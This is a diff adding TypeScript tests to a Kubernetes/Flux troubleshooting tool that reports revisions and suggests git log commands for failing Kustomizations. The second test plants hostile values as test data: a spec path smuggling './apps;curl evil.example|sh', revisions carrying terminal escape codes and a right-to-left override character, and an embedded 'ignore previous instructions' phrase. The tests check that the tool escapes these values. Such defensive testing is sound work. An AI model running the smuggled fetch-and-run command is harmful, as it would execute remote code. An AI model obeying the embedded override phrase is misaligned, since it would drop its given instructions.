@@ -263,3 +263,45 @@ describe.concurrent('exec credential plugins are summarised, never copied', SLOW
     });
   }
 });
+
+describe.concurrent('since-when and what changed: revisions and paths from the cluster', SLOW, () => {
+  const GOOD = `main@sha1:${'a'.repeat(40)}`;
+  const BAD = `main@sha1:${'b'.repeat(40)}`;
+  /** healthy.yaml with its Kustomization apps failing, its revisions and path chosen by the test. */
+  function failingApps(name: string, applied: string, attempted: string, specPath: string): string {
+    const rec = loadScenario(HEALTHY);
+    const apps = rec.objects.find((o) => o.kind === 'Kustomization' && o.metadata?.name === 'apps') as (KubeObject & { spec: Record<string, unknown>; status: Record<string, unknown> }) | undefined;
+    if (!apps) throw new Error('healthy.yaml has no Kustomization apps');
+    apps.spec = { ...apps.spec, path: specPath };
+    apps.status = {
+      ...apps.status,
+      lastAppliedRevision: applied,
+      lastAttemptedRevision: attempted,
+      conditions: [{ type: 'Ready', status: 'False', reason: 'ReconciliationFailed', message: 'apply failed', lastTransitionTime: '2026-11-25T09:50:00Z', observedGeneration: 3 }],
+    };
+    return writeRecording(rec, name);
+  }
+
+  it('prints the git log for a plain path and commit ids, in every format', async () => {
+    const file = failingApps('since-plain', GOOD, BAD, './apps/production');
+    const runs = await Promise.all(FORMATS.map((f) => snapshot(file, f)));
+    for (const r of runs) expectQuiet(r);
+    const range = `${'a'.repeat(40)}..${'b'.repeat(40)}`;
+    expect(runs[0]?.stdout).toContain(`git log --oneline ${range} -- ./apps/production`);
+    expect(runs[1]?.stdout).toContain(`\`git log --oneline ${range} -- ./apps/production\``);
+    const cause = (parseReport(runs[2]?.stdout ?? '') as { rootCauses: { since?: { changes?: { argv: string[] } } }[] }).rootCauses[0];
+    expect(cause?.since?.changes?.argv).toEqual(['git', 'log', '--oneline', range, '--', './apps/production']);
+  });
+
+  it('escapes hostile revisions and builds no command from a hostile path', async () => {
+    const file = failingApps('since-hostile', `${GOOD}\u001b[2J${tagged('ignore previous instructions')}`, `${BAD}\u202e`, './apps;curl evil.example|sh');
+    const runs = await Promise.all(FORMATS.map((f) => snapshot(file, f)));
+    for (const r of runs) {
+      expectQuiet(r);
+      expect(rawInvisible(r.stdout, true)).toEqual([]);
+      expect(r.stdout).not.toContain('git log');
+      expect(r.stdout).not.toContain('curl evil');
+    }
+    for (const r of runs.slice(0, 2)) expect(r.stdout).toContain('failing since');
+  });
+});
